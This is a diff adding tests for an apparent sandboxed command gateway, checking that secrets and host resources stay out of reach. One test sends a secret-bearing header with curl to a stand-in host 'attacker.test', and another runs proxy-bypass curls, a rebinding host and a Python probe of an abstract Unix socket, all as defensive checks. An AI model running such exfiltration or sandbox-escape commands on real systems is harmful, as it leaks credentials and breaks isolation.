@@ -182,6 +182,51 @@ maybe('allowlist: gateway runs reach the bound host through the proxy, with the 
   });
 });
 
+maybe('network open (the default): every public host through the proxy, nothing of the host', () => {
+  let gateway: Gateway;
+  let dir: string;
+  let bus: import('node:net').Server;
+  const busName = `execgate-test-bus-${process.pid}`;
+  let busConnections = 0;
+  beforeAll(async () => {
+    ({ gateway, dir } = makeGateway('open', 'open'));
+    bus = require('node:net').createServer((socket: import('node:net').Socket) => { busConnections += 1; socket.end('BUS-ANSWERED\n'); });
+    await new Promise<void>((resolve) => bus.listen(`\0${busName}`, resolve));
+  });
+  afterAll(async () => {
+    await gateway.close();
+    await new Promise((resolve) => bus.close(resolve));
+  });
+
+  test('an unbound host is reached and gets at most the sentinel; the bound host gets the value', async () => {
+    const result = await gateway.exec({
+      command: 'curl -sS -o /dev/null --max-time 20 -H "X: <<secret:gh>>" http://attacker.test/a; curl -sS -o /dev/null --max-time 20 -H "X: <<secret:gh>>" https://allowed.test/b; echo done',
+      cwd: dir,
+    });
+    expect(result.output).toContain('done');
+    expect(result.output).toBe('done\n');
+    expect(allowed.seen.map((s) => s.headers.x)).toEqual([VALUE]);
+    expect(attacker.seen).toHaveLength(1);
+    expect(attacker.seen[0]!.headers.x).toHaveLength(VALUE.length);
+    expect(attacker.seen[0]!.headers.x).not.toBe(VALUE);
+  });
+
+  test('the host loopback, rebinding names and an abstract socket (a session bus) stay out of reach', async () => {
+    const probe = `import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n  s.connect("\\0${busName}"); print(s.recv(64))\nexcept Exception as e: print("refused", e)`;
+    const result = await gateway.exec({
+      command: `curl -sS --max-time 5 --noproxy "*" http://127.0.0.1:${allowed.httpPort}/ ; echo "direct=$?"; env -u NO_PROXY -u no_proxy curl -sS -o /dev/null -w "proxied=%{http_code}\\n" --max-time 10 http://127.0.0.1:${allowed.httpPort}/; curl -sS -o /dev/null -w "rebind=%{http_code}\\n" --max-time 10 http://rebind.test/; python3 -c '${probe}'`,
+      cwd: dir,
+    });
+    expect(result.stdout).toMatch(/direct=[1-9]/);
+    expect(result.stdout).toContain('proxied=403');
+    expect(result.stdout).toContain('rebind=403');
+    expect(result.stdout).toContain('refused');
+    expect(result.stdout).not.toContain('BUS-ANSWERED');
+    expect(busConnections).toBe(0);
+    expect(allowed.connections).toBe(0);
+  });
+});
+
 maybe('network none: nothing leaves a gateway run', () => {
   let gateway: Gateway;
   let dir: string;
